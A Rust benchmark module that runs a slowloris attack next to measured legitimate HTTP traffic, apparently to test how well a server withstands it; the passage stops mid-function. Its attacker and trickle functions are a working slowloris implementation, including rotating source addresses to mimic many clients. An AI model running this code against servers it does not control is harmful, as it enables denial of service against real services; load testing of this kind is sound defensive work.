//! A slowloris beside legitimate traffic, for `bench/slowloris.sh` (issue 13): how a server's
//! legitimate requests fare while many connections trickle a request head that never ends, and
//! how long the server lets such a connection live.
//!
//! One run, two measured phases on one timeline (after a short warm-up that is not counted):
//!
//! - **legitimate traffic** runs throughout: `GET path` at a fixed rate (open loop), spread
//!   round-robin over a few keep-alive HTTP/1.1 connections bound to `legit_source`. Each
//!   request has a scheduled time and its latency is measured from that time, not from when it
//!   was sent, so a stalled connection is charged for every request queued behind it (no
//!   coordinated omission). A request that fails (closed, reset, timed out, not a 200) counts
//!   as an error and its connection is replaced before the next one;
//! - **baseline**: that traffic alone;
//! - **under attack**: the same traffic while `attack_connections` tasks, each bound to one of
//!   `attack_sources` (round-robin: one address, or several to look like many clients),
//!   connect, send `GET / HTTP/1.1` and `Host`, then one more header line every `trickle` and
//!   never the blank line that ends the head. When the server closes such
//!   a connection the task records how long it lived, waits `reconnect_wait` and connects
//!   again, until the phase ends. A connection closed within `refused_within` of its connect
//!   counts as refused at once (a connection cap answering 503 and closing), the others as
//!   held until a deadline. The first connects are spread over [`RAMP`].
//!
//! HTTP is written and read by hand (request line and `Host` out; status line, headers,
//! `Content-Length` or chunked body in), so nothing in a client library retries, pools or
//! reorders behind the measurement's back. With `server_pid` the server's CPU time, resident
//! memory and open descriptors are read from `/proc` as well, and with `watch_pids` each of
//! the slowest requests says how long those processes ran and waited for a CPU meanwhile
//! (`/proc/PID/task/*/schedstat`, read every [`SCHED_EVERY`] on a thread of its own), which
//! tells the server's own work from another process holding its CPU, and both from this
//! tool being late (`wake_late_*`).

use crate::histogram::Histogram;
use crate::BenchError;
use serde::Serialize;
use std::collections::BTreeMap;
use std::net::{IpAddr, SocketAddr};
use std::sync::atomic::{AtomicBool, AtomicI64, Ordering};
use std::sync::Arc;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::Instant;

/// The attack's first connects are spread over this long rather than sent in one burst.
pub const RAMP: Duration = Duration::from_secs(1);
/// How often the number of attack connections held open is sampled.
const SAMPLE_EVERY: Duration = Duration::from_millis(100);
/// How often the watched processes' scheduler statistics are read.
pub const SCHED_EVERY: Duration = Duration::from_millis(20);
/// Legitimate requests scheduled before the end but not answered this long after it are
/// counted as errors (`unsent`) instead of being waited for.
const TAIL_GRACE: Duration = Duration::from_secs(15);
/// How many of the slowest legitimate requests each phase lists.
const SLOWEST: usize = 5;
/// A response head larger than this is an error (the answers measured are ~100 bytes).
const MAX_HEAD: usize = 64 * 1024;

#[derive(Debug, Clone)]
pub struct SlowlorisOptions {
    pub target: SocketAddr,
    pub path: String,
    pub attack_connections: usize,
    /// Local addresses the attacking connections are bound to, round-robin (at least one).
    pub attack_sources: Vec<IpAddr>,
    pub legit_source: IpAddr,
    /// Legitimate requests per second, over all legitimate connections.
    pub legit_rate: f64,
    pub legit_connections: usize,
    /// Legitimate traffic before the baseline, not counted.
    pub warmup: Duration,
    pub baseline: Duration,
    pub attack: Duration,
    /// Between two header lines on an attacking connection.
    pub trickle: Duration,
    /// After the server closed an attacking connection, before the next connect.
    pub reconnect_wait: Duration,
    /// An attacking connection closed sooner than this after its connect was refused at once.
    pub refused_within: Duration,
    /// A legitimate request unanswered this long is an error (`timeout`).
    pub request_timeout: Duration,
    /// The server's process, for its CPU, memory and descriptors per phase.
    pub server_pid: Option<u32>,
    /// Processes whose scheduler statistics are sampled (the server and, behind a proxy, its
    /// upstream), to say of each slow request whether they ran, waited for a CPU, or slept.
    pub watch_pids: Vec<u32>,
}

/// The legitimate traffic of one phase.
#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct LegitPhase {
    pub seconds: f64,
    /// Requests scheduled in the phase (rate × seconds).
    pub scheduled: u64,
    /// Answered 200, in full.
    pub ok: u64,
    /// 200s per second of the phase.
    pub rate_per_s: f64,
    /// Everything else, by kind: `connect`, `closed`, `reset`, `timeout`, `malformed`,
    /// `status_NNN`, `unsent`.
    pub errors: BTreeMap<String, u64>,
    pub error_count: u64,
    /// Latency from each request's scheduled time to the end of its answer.
    pub p50_ms: f64,
    pub p90_ms: f64,
    pub p99_ms: f64,
    pub p999_ms: f64,
    pub max_ms: f64,
    /// From the request's first byte written to the end of its answer: the latency without
    /// the wait for a busy connection or a new one, and without this tool's timer (tokio wakes
    /// a sleep up to a millisecond late, which the latency above includes).
    pub service_p50_ms: f64,
    pub service_p99_ms: f64,
    pub service_max_ms: f64,
    /// How late this tool sent a request whose connection was idle at its scheduled time:
    /// its own timer and CPU, not the server. A stall here is the client's.
    pub wake_late_p99_ms: f64,
    pub wake_late_max_ms: f64,
    /// The slowest requests, to tell a stall of the server (service ≈ latency) from one of
    /// this tool (`wake_late`) or a queue behind a slow request on the same connection.
    pub slowest: Vec<Slow>,
    /// New legitimate connections opened in the phase (the first ones are opened before).
    pub reconnects: u64,
    /// CPU this tool used in the phase, percent of one core.
    pub generator_cpu_percent: f64,
    /// The server's CPU in the phase, percent of one core (with `server_pid`).
    pub server_cpu_percent: Option<f64>,
    /// The server's VmRSS at the end of the phase, KiB (with `server_pid`).
    pub server_rss_kib: Option<u64>,
    /// How busy each CPU of the machine was in the phase (all processes), percent: beside
    /// `server_cpu_percent` and `generator_cpu_percent` it shows what else ran.
    pub cpu_busy_percent: Vec<f64>,
}

/// One slow legitimate request.
#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct Slow {
    /// Its scheduled time, seconds from the start of the phase.
    pub at_s: f64,
    pub latency_ms: f64,
    pub service_ms: f64,
    /// How late it was sent on an idle connection (0 when it waited for the connection).
    pub wake_late_ms: f64,
    pub connection: usize,
    /// What each watched process did while it was in flight (from `/proc/PID/task/*/schedstat`,
    /// sampled every [`SCHED_EVERY`], so over a window a little wider than the request).
    pub sched: Vec<SchedShare>,
    #[serde(skip)]
    in_flight: Option<(Instant, Instant)>,
}

/// CPU time and run-queue wait of one process's threads over a window.
#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct SchedShare {
    pub pid: u32,
    pub window_ms: f64,
    /// On a CPU.
    pub ran_ms: f64,
    /// Runnable but waiting for a CPU (someone else had it).
    pub waited_ms: f64,
}

/// What the attacking connections met.
#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct AttackSummary {
    pub connections: usize,
    pub seconds: f64,
    pub trickle_seconds: f64,
    /// Connects that succeeded (the first ones and every reconnect).
    pub opened: u64,
    pub connect_errors: u64,
    /// Closed by the server (end of stream, reset, or a failed write) before the phase ended.
    pub closed_by_server: u64,
    /// Of those, closed within `refused_within_s` of the connect.
    pub refused_at_once: u64,
    pub refused_within_s: f64,
    /// Of the closed ones, how many got some answer first, by status (`none`: closed silently).
    pub answers: BTreeMap<String, u64>,
    /// How long the connections that were not refused at once lived, connect to close.
    pub held_closed: u64,
    pub lifetime_min_s: f64,
    pub lifetime_p50_s: f64,
    pub lifetime_p99_s: f64,
    pub lifetime_max_s: f64,
    /// Still open when the phase ended (their lifetime is not known).
    pub open_at_end: u64,
    /// Longest-lived of those at the end, seconds.
    pub open_at_end_oldest_s: f64,
    /// Attacking connections open at once, sampled every 100 ms over the phase.
    pub held_avg: f64,
    pub held_max: i64,
    /// Slowest connect, ms (a full accept queue shows here).
    pub connect_max_ms: f64,
    /// Most descriptors the server had open during the phase (with `server_pid`).
    pub server_fds_max: Option<u64>,
    /// Most VmRSS of the server during the phase, KiB (with `server_pid`).
    pub server_rss_max_kib: Option<u64>,
}

#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct SlowlorisSummary {
    pub target: String,
    pub path: String,
    pub legit_rate: f64,
    pub legit_connections: usize,
    pub baseline: LegitPhase,
    pub under_attack: LegitPhase,
    pub attack: AttackSummary,
}

// --- /proc --------------------------------------------------------------------------------------

/// utime + stime of a process (`None`: this one) in seconds; 100 ticks a second on Linux.
fn cpu_seconds(pid: Option<u32>) -> Option<f64> {
    let path = match pid {
        Some(pid) => format!("/proc/{pid}/stat"),
        None => "/proc/self/stat".into(),
    };
    let stat = std::fs::read_to_string(path).ok()?;
    // Fields after the command name, which is parenthesised and may contain spaces.
    let rest = &stat[stat.rfind(')')? + 2..];
    let fields: Vec<&str> = rest.split_whitespace().collect();
    let utime: f64 = fields.get(11)?.parse().ok()?;
    let stime: f64 = fields.get(12)?.parse().ok()?;
    Some((utime + stime) / 100.0)
}

/// Busy and total jiffies of each CPU, from `/proc/stat` (idle and iowait are not busy).
fn cpu_jiffies() -> Vec<(u64, u64)> {
    let Ok(stat) = std::fs::read_to_string("/proc/stat") else {
        return Vec::new();
    };
    stat.lines()
        .filter(|l| l.starts_with("cpu") && l.as_bytes().get(3).is_some_and(u8::is_ascii_digit))
        .map(|l| {
            let v: Vec<u64> = l
                .split_whitespace()
                .skip(1)
                .take(8)
                .filter_map(|x| x.parse().ok())
                .collect();
            let total: u64 = v.iter().sum();
            let idle = v.get(3).copied().unwrap_or(0) + v.get(4).copied().unwrap_or(0);
            (total - idle, total)
        })
        .collect()
}

fn busy_percent(from: &[(u64, u64)], to: &[(u64, u64)]) -> Vec<f64> {
    from.iter()
        .zip(to)
        .map(|(a, b)| {
            let total = b.1.saturating_sub(a.1).max(1);
            b.0.saturating_sub(a.0) as f64 / total as f64 * 100.0
        })
        .collect()
}

fn rss_kib(pid: u32) -> Option<u64> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let line = status.lines().find(|l| l.starts_with("VmRSS:"))?;
    line.split_whitespace().nth(1)?.parse().ok()
}

fn open_fds(pid: u32) -> Option<u64> {
    Some(std::fs::read_dir(format!("/proc/{pid}/fd")).ok()?.count() as u64)
}

/// Nanoseconds on a CPU and waiting for one, summed over a process's threads.
fn schedstat(pid: u32) -> (u64, u64) {
    let Ok(tasks) = std::fs::read_dir(format!("/proc/{pid}/task")) else {
        return (0, 0);
    };
    let mut sum = (0, 0);
    for task in tasks.flatten() {
        let Ok(text) = std::fs::read_to_string(task.path().join("schedstat")) else {
            continue;
        };
        let mut fields = text
            .split_whitespace()
            .map(|f| f.parse::<u64>().unwrap_or(0));
        sum.0 += fields.next().unwrap_or(0);
        sum.1 += fields.next().unwrap_or(0);
    }
    sum
}

/// Cumulative scheduler readings of the watched processes over time.
#[derive(Debug, Default)]
struct SchedSeries {
    pids: Vec<u32>,
    readings: Vec<(Instant, Vec<(u64, u64)>)>,
}

impl SchedSeries {
    fn sample(&mut self) {
        let now = Instant::now();
        let values = self.pids.iter().map(|pid| schedstat(*pid)).collect();
        self.readings.push((now, values));
    }

    /// Each process's share over the smallest sampled window holding `from..to`.
    fn over(&self, from: Instant, to: Instant) -> Vec<SchedShare> {
        let first = self.readings.iter().rev().find(|(at, _)| *at <= from);
        let last = self.readings.iter().find(|(at, _)| *at >= to);
        let (Some((a, before)), Some((b, after))) = (first, last) else {
            return Vec::new();
        };
        let ms = |ns: u64| ns as f64 / 1e6;
        self.pids
            .iter()
            .zip(before.iter().zip(after))
            .map(|(pid, (x, y))| SchedShare {
                pid: *pid,
                window_ms: b.duration_since(*a).as_secs_f64() * 1000.0,
                ran_ms: ms(y.0.saturating_sub(x.0)),
                waited_ms: ms(y.1.saturating_sub(x.1)),
            })
            .collect()
    }
}

/// CPU percent of one core between two readings `seconds` apart.
fn percent(a: Option<f64>, b: Option<f64>, seconds: f64) -> Option<f64> {
    Some((b? - a?) / seconds * 100.0)
}

// --- HTTP/1.1 by hand ---------------------------------------------------------------------------

/// Why a legitimate request did not end in a 200.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Failure {
    Connect,
    /// End of stream before a full answer.
    Closed,
    /// Any other I/O error (reset, broken pipe).
    Reset,
    Timeout,
    Malformed,
    Status(u16),
}

impl Failure {
    fn key(self) -> String {
        match self {
            Failure::Connect => "connect".into(),
            Failure::Closed => "closed".into(),
            Failure::Reset => "reset".into(),
            Failure::Timeout => "timeout".into(),
            Failure::Malformed => "malformed".into(),
            Failure::Status(code) => format!("status_{code}"),
        }
    }
}

/// How the body after a response head is delimited.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Framing {
    Length(usize),
    Chunked,
    /// No length: the body runs to the end of the connection.
    UntilClose,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct ResponseHead {
    status: u16,
    framing: Framing,
    /// The server will close after this answer (`Connection: close`, or a body to the close).
    closes: bool,
    /// Bytes of the head, including the blank line.
    length: usize,
}

/// Parses a response head at the start of `buf`, if it is all there.
fn parse_head(buf: &[u8]) -> Result<Option<ResponseHead>, Failure> {
    let Some(end) = buf.windows(4).position(|w| w == b"\r\n\r\n") else {
        return if buf.len() > MAX_HEAD {
            Err(Failure::Malformed)
        } else {
            Ok(None)
        };
    };
    let text = std::str::from_utf8(&buf[..end]).map_err(|_| Failure::Malformed)?;
    let mut lines = text.split("\r\n");
    let status_line = lines.next().unwrap_or("");
    let mut words = status_line.split(' ');
    if !words.next().unwrap_or("").starts_with("HTTP/1.") {
        return Err(Failure::Malformed);
    }
    let status: u16 = words
        .next()
        .and_then(|s| s.parse().ok())
        .ok_or(Failure::Malformed)?;
    let mut framing = None;
    let mut closes = false;
    for line in lines {
        let (name, value) = line.split_once(':').ok_or(Failure::Malformed)?;
        let (name, value) = (name.trim(), value.trim());
        if name.eq_ignore_ascii_case("content-length") && framing != Some(Framing::Chunked) {
            framing = Some(Framing::Length(
                value.parse().map_err(|_| Failure::Malformed)?,
            ));
        } else if name.eq_ignore_ascii_case("transfer-encoding")
            && value
                .rsplit(',')
                .next()
                .is_some_and(|v| v.trim().eq_ignore_ascii_case("chunked"))
        {
            framing = Some(Framing::Chunked);
        } else if name.eq_ignore_ascii_case("connection")
            && value
                .split(',')
                .any(|v| v.trim().eq_ignore_ascii_case("close"))
        {
            closes = true;
        }
    }
    // 1xx, 204 and 304 have no body whatever the headers say.
    let bodiless = status < 200 || status == 204 || status == 304;
    let framing = if bodiless {
        Framing::Length(0)
    } else {
        framing.unwrap_or(Framing::UntilClose)
    };
    Ok(Some(ResponseHead {
        status,
        framing,
        closes: closes || framing == Framing::UntilClose,
        length: end + 4,
    }))
}

/// Reads more into `buf`; end of stream is [`Failure::Closed`].
async fn fill(stream: &mut TcpStream, buf: &mut Vec<u8>) -> Result<(), Failure> {
    buf.reserve(4096);
    match stream.read_buf(buf).await {
        Ok(0) => Err(Failure::Closed),
        Ok(_) => Ok(()),
        Err(_) => Err(Failure::Reset),
    }
}

/// Takes one CRLF-terminated line off the front of `buf`, reading as needed.
async fn take_line(stream: &mut TcpStream, buf: &mut Vec<u8>) -> Result<Vec<u8>, Failure> {
    loop {
        if let Some(end) = buf.windows(2).position(|w| w == b"\r\n") {
            let line = buf[..end].to_vec();
            buf.drain(..end + 2);
            return Ok(line);
        }
        if buf.len() > MAX_HEAD {
            return Err(Failure::Malformed);
        }
        fill(stream, buf).await?;
    }
}

/// Drops `n` bytes off the front of `buf`, reading as needed.
async fn skip(stream: &mut TcpStream, buf: &mut Vec<u8>, mut n: usize) -> Result<(), Failure> {
    loop {
        let here = n.min(buf.len());
        buf.drain(..here);
        n -= here;
        if n == 0 {
            return Ok(());
        }
        fill(stream, buf).await?;
    }
}

/// Reads one whole response; leaves any bytes after it in `buf`.
async fn read_response(stream: &mut TcpStream, buf: &mut Vec<u8>) -> Result<ResponseHead, Failure> {
    let head = loop {
        if let Some(head) = parse_head(buf)? {
            break head;
        }
        fill(stream, buf).await?;
    };
    buf.drain(..head.length);
    match head.framing {
        Framing::Length(n) => skip(stream, buf, n).await?,
        Framing::Chunked => loop {
            let line = take_line(stream, buf).await?;
            let size = std::str::from_utf8(&line)
                .ok()
                .map(|l| l.split(';').next().unwrap_or("").trim())
                .and_then(|hex| usize::from_str_radix(hex, 16).ok())
                .ok_or(Failure::Malformed)?;
            if size == 0 {
                // Trailer fields, if any, then the blank line.
                while !take_line(stream, buf).await?.is_empty() {}
                break;
            }
            skip(stream, buf, size + 2).await?;
        },
        Framing::UntilClose => loop {
            buf.clear();
            match fill(stream, buf).await {
                Ok(()) => {}
                Err(Failure::Closed) => break,
                Err(other) => return Err(other),
            }
        },
    }
    Ok(head)
}

async fn connect_from(source: IpAddr, target: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = if target.is_ipv4() {
        TcpSocket::new_v4()?
    } else {
        TcpSocket::new_v6()?
    };
    socket.bind(SocketAddr::new(source, 0))?;
    let stream = socket.connect(target).await?;
    stream.set_nodelay(true)?;
    Ok(stream)
}

// --- legitimate traffic -------------------------------------------------------------------------

/// Which part of the timeline a scheduled instant falls in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Phase {
    Warmup,
    Baseline,
    Attack,
}

#[derive(Debug, Clone, Copy)]
struct Timeline {
    start: Instant,
    baseline_from: Instant,
    attack_from: Instant,
    end: Instant,
}

impl Timeline {
    fn phase_start(&self, phase: Phase) -> Instant {
        match phase {
            Phase::Warmup => self.start,
            Phase::Baseline => self.baseline_from,
            Phase::Attack => self.attack_from,
        }
    }

    fn phase_of(&self, at: Instant) -> Phase {
        if at < self.baseline_from {
            Phase::Warmup
        } else if at < self.attack_from {
            Phase::Baseline
        } else {
            Phase::Attack
        }
    }
}

#[derive(Debug, Default, Clone)]
struct LegitCounts {
    latency_us: Histogram,
    service_us: Histogram,
    wake_late_us: Histogram,
    slowest: Vec<Slow>,
    scheduled: u64,
    ok: u64,
    errors: BTreeMap<String, u64>,
    reconnects: u64,
}

impl LegitCounts {
    fn error(&mut self, key: String) {
        *self.errors.entry(key).or_default() += 1;
    }

    /// Keeps the [`SLOWEST`] requests by latency.
    fn note_slow(&mut self, slow: Slow) {
        if self.slowest.len() == SLOWEST
            && self
                .slowest
                .last()
                .is_some_and(|last| last.latency_ms >= slow.latency_ms)
        {
            return;
        }
        self.slowest.push(slow);
        self.slowest
            .sort_by(|a, b| b.latency_ms.total_cmp(&a.latency_ms));
        self.slowest.truncate(SLOWEST);
    }

    fn merge(&mut self, other: &LegitCounts) {
        self.latency_us.merge(&other.latency_us);
        self.service_us.merge(&other.service_us);
        self.wake_late_us.merge(&other.wake_late_us);
        for slow in &other.slowest {
            self.note_slow(slow.clone());
        }
        self.scheduled += other.scheduled;
        self.ok += other.ok;
        self.reconnects += other.reconnects;
        for (key, count) in &other.errors {
            *self.errors.entry(key.clone()).or_default() += count;
        }
    }
}

/// Counts for the baseline and the attack phase; the warm-up is dropped.
#[derive(Debug, Default, Clone)]
struct LegitResult {
    baseline: LegitCounts,
    attack: LegitCounts,
}

impl LegitResult {
    fn phase(&mut self, phase: Phase) -> Option<&mut LegitCounts> {
        match phase {
            Phase::Warmup => None,
            Phase::Baseline => Some(&mut self.baseline),
            Phase::Attack => Some(&mut self.attack),
        }
    }
}

/// One request on `stream`: write, then read the whole answer.
async fn exchange(
    stream: &mut TcpStream,
    buf: &mut Vec<u8>,
    request: &[u8],
) -> Result<ResponseHead, Failure> {
    stream
        .write_all(request)
        .await
        .map_err(|_| Failure::Reset)?;
    read_response(stream, buf).await
}

/// One legitimate connection: requests `index`, `index + every`, `index + 2 × every`… of the
/// schedule, each sent at its time or, when behind, at once.
async fn legit_connection(
    options: Arc<SlowlorisOptions>,
    timeline: Timeline,
    index: usize,
    mut stream: Option<TcpStream>,
) -> LegitResult {
    let request = format!(
        "GET {} HTTP/1.1\r\nHost: {}\r\n\r\n",
        options.path, options.target
    );
    let every = options.legit_connections.max(1);
    let give_up = timeline.end + TAIL_GRACE;
    let mut result = LegitResult::default();
    let mut buf = Vec::with_capacity(8192);
    let mut previous_done = timeline.start;
    for k in (index..).step_by(every) {
        let scheduled = timeline.start + Duration::from_secs_f64(k as f64 / options.legit_rate);
        if scheduled >= timeline.end {
            break;
        }
        let phase = timeline.phase_of(scheduled);
        if let Some(counts) = result.phase(phase) {
            counts.scheduled += 1;
        }
        if Instant::now() >= give_up {
            if let Some(counts) = result.phase(phase) {
                counts.error("unsent".into());
            }
            continue;
        }
        let idle = previous_done <= scheduled && stream.is_some();
        tokio::time::sleep_until(scheduled).await;
        let mut sent = scheduled;
        let outcome = tokio::time::timeout(options.request_timeout, async {
            if stream.is_none() {
                let fresh = connect_from(options.legit_source, options.target)
                    .await
                    .map_err(|_| Failure::Connect)?;
                buf.clear();
                stream = Some(fresh);
                if let Some(counts) = result.phase(timeline.phase_of(Instant::now())) {
                    counts.reconnects += 1;
                }
            }
            let open = stream.as_mut().expect("connected above");
            sent = Instant::now();
            exchange(open, &mut buf, request.as_bytes()).await
        })
        .await
        .unwrap_or(Err(Failure::Timeout));
        let done = Instant::now();
        previous_done = done;
        let failure = match outcome {
            Ok(head) => {
                if head.closes {
                    stream = None;
                }
                (head.status != 200).then_some(Failure::Status(head.status))
            }
            Err(failure) => {
                stream = None;
                Some(failure)
            }
        };
        let Some(counts) = result.phase(phase) else {
            continue;
        };
        match failure {
            None => {
                counts.ok += 1;
                let latency = done.duration_since(scheduled);
                let service = done.duration_since(sent);
                let late = if idle {
                    sent.duration_since(scheduled)
                } else {
                    Duration::ZERO
                };
                counts.latency_us.record(latency.as_micros() as u64);
                counts.service_us.record(service.as_micros() as u64);
                if idle {
                    counts.wake_late_us.record(late.as_micros() as u64);
                }
                counts.note_slow(Slow {
                    at_s: scheduled
                        .duration_since(timeline.phase_start(phase))
                        .as_secs_f64(),
                    latency_ms: latency.as_secs_f64() * 1000.0,
                    service_ms: service.as_secs_f64() * 1000.0,
                    wake_late_ms: late.as_secs_f64() * 1000.0,
                    connection: index,
                    sched: Vec::new(),
                    in_flight: Some((sent, done)),
                });
            }
            Some(failure) => counts.error(failure.key()),
        }
    }
    result
}

// --- the attack ---------------------------------------------------------------------------------

#[derive(Debug, Default, Clone)]
struct AttackCounts {
    opened: u64,
    connect_errors: u64,
    closed_by_server: u64,
    refused_at_once: u64,
    answers: BTreeMap<String, u64>,
    /// Lifetimes of the closed connections not refused at once, ms. A list, not a
    /// [`Histogram`]: one of those per task (30 KiB each, zeroed) made thousands of tasks stall
    /// the tool for a few hundred milliseconds as the attack started.
    lifetimes_ms: Vec<u64>,
    open_at_end: u64,
    open_at_end_oldest_ms: u64,
    connect_max_us: u64,
}

impl AttackCounts {
    fn merge(&mut self, other: &AttackCounts) {
        self.opened += other.opened;
        self.connect_errors += other.connect_errors;
        self.closed_by_server += other.closed_by_server;
        self.refused_at_once += other.refused_at_once;
        for (key, count) in &other.answers {
            *self.answers.entry(key.clone()).or_default() += count;
        }
        self.lifetimes_ms.extend_from_slice(&other.lifetimes_ms);
        self.open_at_end += other.open_at_end;
        self.open_at_end_oldest_ms = self.open_at_end_oldest_ms.max(other.open_at_end_oldest_ms);
        self.connect_max_us = self.connect_max_us.max(other.connect_max_us);
    }
}

/// How one attacking connection ended.
enum Ended {
    /// The server closed it; the status of whatever it answered first, if anything.
    ByServer(Option<u16>),
    /// Still open when the phase ended.
    AtEnd,
}

/// Trickles a head that never ends on `stream` until the server closes it or `end` comes.
async fn trickle(stream: &mut TcpStream, trickle: Duration, end: Instant) -> Ended {
    if stream
        .write_all(b"GET / HTTP/1.1\r\nHost: x\r\n")
        .await
        .is_err()
    {
        return Ended::ByServer(None);
    }
    let mut answer: Vec<u8> = Vec::new();
    let mut chunk = [0u8; 2048];
    let mut next = Instant::now() + trickle;
    let mut line = 0u64;
    loop {
        tokio::select! {
            read = stream.read(&mut chunk) => match read {
                Ok(0) | Err(_) => return Ended::ByServer(status_of(&answer)),
                Ok(n) => {
                    if answer.len() < 64 {
                        answer.extend_from_slice(&chunk[..n.min(64)]);
                    }
                }
            },
            () = tokio::time::sleep_until(next) => {
                line += 1;
                let header = format!("X-Trickle-{line}: {line}\r\n");
                if stream.write_all(header.as_bytes()).await.is_err() {
                    return Ended::ByServer(status_of(&answer));
                }
                next += trickle;
            }
            () = tokio::time::sleep_until(end) => return Ended::AtEnd,
        }
    }
}

/// The status code at the start of `bytes`, if they start like a response.
fn status_of(bytes: &[u8]) -> Option<u16> {
    let text = std::str::from_utf8(bytes.get(..12)?).ok()?;
    if !text.starts_with("HTTP/1.") {
        return None;
    }
    text.get(9..12)?.parse().ok()
}

/// One attacking task: connect, trickle, and again after each close, until `end`.
async fn attacker(
    options: Arc<SlowlorisOptions>,
    source: IpAddr,
    start: Instant,
    end: Instant,
    held: Arc<AtomicI64>,
) -> AttackCounts {
    let mut counts = AttackCounts::default();
    tokio::time::sleep_until(start).await;
    while Instant::now() < end {
        let before = Instant::now();
        let connected = tokio::time::timeout_at(end, connect_from(source, options.target)).await;
        let mut stream = match connected {
            Err(_) => break,
            Ok(Err(_)) => {
                counts.connect_errors += 1;
                tokio::time::sleep_until((Instant::now() + options.reconnect_wait).min(end)).await;
                continue;
            }
            Ok(Ok(stream)) => stream,
        };
        let connected_at = Instant::now();
        counts.connect_max_us = counts
            .connect_max_us
            .max(connected_at.duration_since(before).as_micros() as u64);
        counts.opened += 1;
        held.fetch_add(1, Ordering::Relaxed);
        let ended = trickle(&mut stream, options.trickle, end).await;
        held.fetch_sub(1, Ordering::Relaxed);
        let lived = connected_at.elapsed();
        match ended {
            Ended::AtEnd => {
                counts.open_at_end += 1;
                counts.open_at_end_oldest_ms =
                    counts.open_at_end_oldest_ms.max(lived.as_millis() as u64);
                break;
            }
            Ended::ByServer(status) => {
                counts.closed_by_server += 1;
                let key = status.map_or_else(|| "none".to_string(), |s| s.to_string());
                *counts.answers.entry(key).or_default() += 1;
                if lived < options.refused_within {
                    counts.refused_at_once += 1;
                } else {
                    counts.lifetimes_ms.push(lived.as_millis() as u64);
                }
            }
        }
        drop(stream);
        tokio::time::sleep_until((Instant::now() + options.reconnect_wait).min(end)).await;
    }
    counts
}

// --- the run ------------------------------------------------------------------------------------

/// Readings of this process and the server at one instant.
#[derive(Debug, Clone)]
struct Reading {
    at: Instant,
    cpus: Vec<(u64, u64)>,
    own_cpu: Option<f64>,
    server_cpu: Option<f64>,
    server_rss: Option<u64>,
}

fn read_now(server_pid: Option<u32>) -> Reading {
    Reading {
        at: Instant::now(),
        cpus: cpu_jiffies(),
        own_cpu: cpu_seconds(None),
        server_cpu: server_pid.and_then(|pid| cpu_seconds(Some(pid))),
        server_rss: server_pid.and_then(rss_kib),
    }
}

fn ms(us: u64) -> f64 {
    us as f64 / 1000.0
}

fn phase_summary(counts: &LegitCounts, seconds: f64, from: &Reading, to: &Reading) -> LegitPhase {
    let spent = to
        .at
        .duration_since(from.at)
        .as_secs_f64()
        .max(f64::EPSILON);
    LegitPhase {
        seconds,
        scheduled: counts.scheduled,
        ok: counts.ok,
        rate_per_s: counts.ok as f64 / seconds,
        error_count: counts.errors.values().sum(),
        errors: counts.errors.clone(),
        p50_ms: ms(counts.latency_us.quantile(0.50)),
        p90_ms: ms(counts.latency_us.quantile(0.90)),
        p99_ms: ms(counts.latency_us.quantile(0.99)),
        p999_ms: ms(counts.latency_us.quantile(0.999)),
        max_ms: ms(counts.latency_us.max()),
        service_p50_ms: ms(counts.service_us.quantile(0.50)),
        service_p99_ms: ms(counts.service_us.quantile(0.99)),
        service_max_ms: ms(counts.service_us.max()),
        wake_late_p99_ms: ms(counts.wake_late_us.quantile(0.99)),
        wake_late_max_ms: ms(counts.wake_late_us.max()),
        slowest: counts.slowest.clone(),
        reconnects: counts.reconnects,
        generator_cpu_percent: percent(from.own_cpu, to.own_cpu, spent).unwrap_or(f64::NAN),
        server_cpu_percent: percent(from.server_cpu, to.server_cpu, spent),
        server_rss_kib: to.server_rss,
        cpu_busy_percent: busy_percent(&from.cpus, &to.cpus),
    }
}

/// Runs the warm-up, the baseline and the attack phase (see the module docs).
pub async fn run(options: SlowlorisOptions) -> Result<SlowlorisSummary, BenchError> {
    if !(options.legit_rate > 0.0 && options.legit_rate.is_finite()) {
        return Err(BenchError::Invalid("--legit-rate must be above 0".into()));
    }
    if options.attack_sources.is_empty() {
        return Err(BenchError::Invalid(
            "--attack-source names no address".into(),
        ));
    }
    if options.trickle.is_zero() {
        return Err(BenchError::Invalid(
            "--trickle-seconds must be above 0".into(),
        ));
    }
    let options = Arc::new(options);
    // The legitimate connections are open before the clock starts.
    let mut streams = Vec::with_capacity(options.legit_connections.max(1));
    for _ in 0..options.legit_connections.max(1) {
        let stream = connect_from(options.legit_source, options.target)
            .await
            .map_err(|e| {
                BenchError::Invalid(format!(
                    "connecting to {} from {}: {e}",
                    options.target, options.legit_source
                ))
            })?;
        streams.push(stream);
    }
    let start = Instant::now() + Duration::from_millis(50);
    let baseline_from = start + options.warmup;
    let attack_from = baseline_from + options.baseline;
    let end = attack_from + options.attack;
    let timeline = Timeline {
        start,
        baseline_from,
        attack_from,
        end,
    };

    // The watched processes' scheduler statistics, read on a thread of their own so the
    // readings keep their pace whatever this runtime is doing.
    let sched_stop = Arc::new(AtomicBool::new(false));
    let sched_thread = {
        let stop = sched_stop.clone();
        let mut series = SchedSeries {
            pids: options.watch_pids.clone(),
            readings: Vec::new(),
        };
        std::thread::spawn(move || {
            while !series.pids.is_empty() && !stop.load(Ordering::Relaxed) {
                series.sample();
                std::thread::sleep(SCHED_EVERY);
            }
            series.sample();
            series
        })
    };

    let mut legit = tokio::task::JoinSet::new();
    for (index, stream) in streams.into_iter().enumerate() {
        legit.spawn(legit_connection(
            options.clone(),
            timeline,
            index,
            Some(stream),
        ));
    }

    tokio::time::sleep_until(baseline_from).await;
    let at_baseline = read_now(options.server_pid);
    tokio::time::sleep_until(attack_from).await;
    let at_attack = read_now(options.server_pid);

    let held = Arc::new(AtomicI64::new(0));
    let mut attackers = tokio::task::JoinSet::new();
    let n = options.attack_connections;
    for i in 0..n {
        let offset = RAMP.mul_f64(i as f64 / n.max(1) as f64);
        let source = options.attack_sources[i % options.attack_sources.len()];
        attackers.spawn(attacker(
            options.clone(),
            source,
